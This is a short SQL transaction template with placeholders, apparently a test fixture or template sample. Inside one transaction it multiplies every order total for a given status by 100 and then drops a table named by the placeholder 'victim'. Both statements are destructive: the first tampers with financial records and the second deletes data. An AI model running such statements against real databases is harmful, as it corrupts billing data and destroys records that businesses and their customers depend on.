begin;
update orders set total = total * 100 where status = '[=status]';
drop table [=victim];
commit;
